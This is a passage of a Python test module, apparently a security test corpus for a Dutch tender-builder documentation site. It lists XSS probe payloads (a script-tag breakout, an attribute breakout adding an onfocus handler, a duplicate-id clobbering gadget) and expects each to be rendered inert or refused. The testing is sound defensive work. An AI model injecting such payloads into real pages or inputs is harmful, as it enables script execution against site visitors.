            "zoekwoorden:\n  - zoekwoorden: [XSS161]\n    ook: [\"\\\"><script>alert(1)</script>\"]\n    waarom: x\n",
            "refused", NOT_A_SEARCH_WORD, raw="file"),
]

PAYLOADS += PAYLOADS_25

# Issue 24, the tender builder (markers XSS88, XSS89).


def _another_criterion() -> str:
    """A criterion in another file than CRITERION: two inert payloads in one field would overwrite each
    other. Read from the data, so an editor's rename does not break the corpus."""
    import yaml

    folder = Path(__file__).resolve().parent.parent / "data" / "criteria"
    for path in sorted(folder.glob("*.yml")):
        rel = f"data/criteria/{path.name}"
        entries = yaml.safe_load(path.read_text(encoding="utf-8")) or []
        if rel != CRITERION.split("#")[0] and entries:
            return f"{rel}#{entries[0]['id']}"
    raise AssertionError("geen tweede bestand met criteria in data/criteria/")


PAYLOADS_24B = [
    # The tender builder writes a criterion's title into a data-titel attribute its script reads back.
    Payload("criterium-title-builder", "title breakout", f"{_another_criterion()}.titel", "Maatvast XSS88\" data-groep=\"x\" onfocus=\"alert(1)",
            "inert", page=page_with("assets/javascripts/bestekbouwer.js")[len("docs/"):-len(".md")] + ".html"),
    Payload("gadget-builder-id", "gadget", page_with("assets/javascripts/bestekbouwer.js"),
            "<div id=\"bb-lijst\">XSS89</div>", "refused", "staat 2 keer op de pagina"),
]

PAYLOADS += PAYLOADS_24B
